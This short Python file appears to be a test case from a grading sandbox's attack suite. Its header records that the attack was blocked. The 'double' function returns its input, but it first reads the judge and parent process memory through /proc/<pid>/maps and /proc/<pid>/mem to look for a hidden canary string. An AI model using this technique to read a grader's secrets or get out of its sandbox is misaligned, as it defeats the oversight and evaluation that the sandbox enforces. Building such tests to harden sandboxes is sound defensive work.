# attack: searches the grader's memory for what was hidden there, through /proc
# stopped by: in a box there is no /proc; else Landlock; else the grader is not dumpable
# verdict: failed
# exercise: 01_double
# tier: seccomp
import os


def double(x):
    for process in {"@JUDGE@", str(os.getppid())}:
        try:
            with open(f"/proc/{process}/maps") as maps, open(f"/proc/{process}/mem", "rb", 0) as memory:
                for line in maps:
                    first, last = (int(part, 16) for part in line.split()[0].split("-"))
                    memory.seek(first)
                    found = memory.read(min(last - first, 1 << 20)).find(b"CANARY")
                    print("ESCAPED", found)
        except (OSError, ValueError, OverflowError):
            pass
    return x
